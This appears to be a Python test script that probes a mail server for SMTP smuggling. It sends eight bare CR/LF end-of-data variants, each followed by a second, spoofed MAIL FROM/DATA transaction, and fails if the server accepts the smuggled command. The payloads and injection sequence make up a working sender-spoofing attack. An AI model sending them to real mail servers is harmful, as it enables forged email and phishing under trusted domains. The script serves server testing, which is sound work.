#!/usr/bin/env python3
"""Sends SMTP smuggling payloads (bare CR/LF end-of-data variants) to an MX.

Each payload is sent in its own transaction: a first message whose body
contains a fake end-of-data sequence followed by a second, smuggled
transaction (MAIL FROM:<smuggled@...> and a From: header in the smuggled
message). A correct server either refuses the message or stores it as one
message with the payload inside its body; it never stores the smuggled
message separately. Prints the number of payloads sent.
Usage: smuggle.py HOST PORT RCPT
"""
import socket
import sys

host, port, rcpt = sys.argv[1], int(sys.argv[2]), sys.argv[3]
fake_ends = [b"\n.\n", b"\n.\r\n", b"\r.\r\n", b"\r\n.\r", b"\r\n.\n", b"\r.\n", b"\r\n\x00.\r\n", b"\n.\r"]


def reply(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            raise SystemExit("connection closed by server")
        lines.append(line)
        if line[3:4] != b"-":
            return int(line[:3]), b"".join(lines)


sent = 0
for end in fake_ends:
    s = socket.create_connection((host, port), timeout=10)
    f = s.makefile("rb")
    reply(f)
    s.sendall(b"EHLO smuggler.test\r\n"); reply(f)
    s.sendall(b"MAIL FROM:<attacker@remote.test>\r\n"); code, _ = reply(f)
    assert code == 250, code
    s.sendall(b"RCPT TO:<" + rcpt.encode() + b">\r\n"); code, _ = reply(f)
    assert code == 250, code
    s.sendall(b"DATA\r\n"); code, _ = reply(f)
    assert code == 354, code
    body = (b"From: <attacker@remote.test>\r\nSubject: carrier\r\n\r\ncarrier body" + end +
            b"MAIL FROM:<smuggled@remote.test>\r\nRCPT TO:<" + rcpt.encode() + b">\r\nDATA\r\n" +
            b"From: <smuggled@remote.test>\r\nSubject: smuggled\r\n\r\nsmuggled body\r\n.\r\n")
    s.sendall(body)
    code, text = reply(f)
    # Whatever the server answered, anything further it says must not be a
    # reply to a smuggled command: send QUIT and read to the end.
    s.sendall(b"QUIT\r\n")
    rest = f.read()
    replies = [l for l in rest.split(b"\r\n") if l]
    if any(l.startswith(b"354") for l in replies):
        raise SystemExit("server answered a smuggled DATA for %r: %r" % (end, rest))
    s.close()
    sent += 1
print(sent)
